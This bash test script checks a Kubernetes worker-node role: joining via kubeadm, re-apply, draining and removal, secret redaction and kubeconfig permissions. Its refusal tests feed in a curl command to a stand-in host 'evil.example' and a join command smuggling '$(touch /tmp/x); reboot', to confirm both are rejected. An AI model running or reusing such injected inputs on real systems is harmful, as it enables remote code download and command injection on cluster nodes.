#!/usr/bin/env bash
# k8s-worker role against shims: join with the master's command (one-line
# and two-line forms), refusal of anything else, remove with and without a
# kubeconfig for draining, failures.
set -euo pipefail
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

ROLE=k8s-worker
TOKEN=abcdef.0123456789abcdef
HASH=sha256:1234567890abcdef1234567890abcdef1234567890abcdef1234567890abcdef
JOIN="kubeadm join 10.0.0.5:6443 --token $TOKEN --discovery-token-ca-cert-hash $HASH"
KUBECONFIG_IN=$'apiVersion: v1\nkind: Config\nusers:\n- name: kubernetes-admin\n  user:\n    client-key-data: WORKERTESTSECRETKEYDATA0123456789abcdef'

check_role_yaml $ROLE

# --- apply on a node with the packages already there
new_node worker
preinstall containerd kubelet kubeadm kubectl
run_step $ROLE apply join_command="$JOIN" SHIM_HOSTNAME=Worker-7
expect_rc_ok "apply"
expect_calls "apply" <<CALLS
swapoff -a
modprobe overlay
modprobe br_netfilter
sysctl --system
containerd config default
systemctl restart containerd
systemctl enable containerd kubelet
hostname
kubeadm join 10.0.0.5:6443 --token $TOKEN --discovery-token-ca-cert-hash $HASH
CALLS
parse_outputs
expect_output node_name worker-7
ok "apply: node_name worker-7 (hostname, lower-cased)"
expect_progress "apply" final
expect_no_secrets "apply" "$TOKEN"
[ -f "$NODE/root/etc/kubernetes/kubelet.conf" ] || fail "join left no kubelet.conf"

# --- apply again: already joined, no second join
run_step $ROLE apply join_command="$JOIN" SHIM_HOSTNAME=Worker-7
expect_rc_ok "re-apply"
calls | grep -q '^kubeadm join' && fail "re-apply joined again"
ok "re-apply: already joined, kubeadm join not run again"

# --- remove without a kubeconfig: no kubectl at all
run_step $ROLE remove join_command="$JOIN" SHIM_HOSTNAME=Worker-7 SHIM_IP_LINKS=cni0
expect_rc_ok "remove"
expect_calls "remove without kubeconfig" <<'CALLS'
hostname
kubeadm reset -f
ip link show cni0
ip link delete cni0
ip link show flannel.1
iptables -F
iptables -t nat -F
iptables -t mangle -F
iptables -X
systemctl stop kubelet
CALLS
expect_progress "remove" final
expect_no_secrets "remove" "$TOKEN"

# --- two-line join command as kubeadm init prints it; install on a bare
# node; remove with a kubeconfig drains and deletes the node first
new_node worker2
run_step $ROLE apply join_command="kubeadm join 10.0.0.5:6443 --token $TOKEN \\
	--discovery-token-ca-cert-hash $HASH " SHIM_HOSTNAME=w2
expect_rc_ok "apply (two-line join_command)"
calls | grep -qx "kubeadm join 10.0.0.5:6443 --token $TOKEN --discovery-token-ca-cert-hash $HASH" ||
	fail "two-line join_command not run as one command"
calls | grep -qx 'apt-get install -y -q --no-install-recommends containerd kubelet kubeadm kubectl' ||
	fail "bare node: packages not installed"
ok "apply: two-line join_command joined as one command; packages installed on a bare node"
expect_no_secrets "apply (two-line)" "$TOKEN"

run_step $ROLE remove join_command="$JOIN" kubeconfig="$KUBECONFIG_IN" SHIM_HOSTNAME=w2 SHIM_IP_LINKS=
expect_rc_ok "remove with kubeconfig"
expect_calls "remove with kubeconfig" <<'CALLS'
hostname
kubectl get node w2
kubectl drain w2 --ignore-daemonsets --delete-emptydir-data --force --timeout=300s
kubectl delete node w2 --ignore-not-found
kubeadm reset -f
ip link show cni0
ip link show flannel.1
iptables -F
iptables -t nat -F
iptables -t mangle -F
iptables -X
systemctl stop kubelet
CALLS
[ "$(stat -c %a "$RUN_WORK/kubeconfig")" = 600 ] || fail "kubeconfig file not 0600"
ok "remove: kubeconfig written 0600 in the work dir"
expect_progress "remove with kubeconfig" final
expect_no_secrets "remove with kubeconfig" "$TOKEN" WORKERTESTSECRETKEYDATA0123456789abcdef

# --- refusals and failures
new_node refuse
preinstall containerd kubelet kubeadm kubectl
run_step $ROLE apply join_command="curl http://evil.example/x.sh --token $TOKEN"
expect_failure "apply with a non-kubeadm command" "must start with 'kubeadm join '"
[ -z "$(calls)" ] || fail "commands ran for a refused join_command"
expect_no_secrets "refused join_command" "$TOKEN"

run_step $ROLE apply join_command="kubeadm join 10.0.0.5:6443 --token $TOKEN \$(touch /tmp/x); reboot"
expect_failure "apply with shell syntax in the command" "join_command has characters other than"
[ -z "$(calls)" ] || fail "commands ran for a refused join_command"
expect_no_secrets "refused join_command with shell syntax" "$TOKEN"

run_step $ROLE apply join_command="$JOIN" SHIM_FAIL="kubeadm join"
expect_failure "apply with kubeadm join failing" "kubeadm join failed"
expect_no_secrets "failed join" "$TOKEN"
[ -z "$(cat "$RUN_OUTPUT")" ] || fail "failed join still wrote outputs"

run_step $ROLE remove join_command="$JOIN" kubeconfig="$KUBECONFIG_IN" SHIM_FAIL="kubectl drain"
expect_failure "remove with kubectl drain failing" "kubectl drain node-1 failed"
calls | grep -q '^kubeadm reset' && fail "reset ran after a failed drain"
ok "remove: no reset after a failed drain"
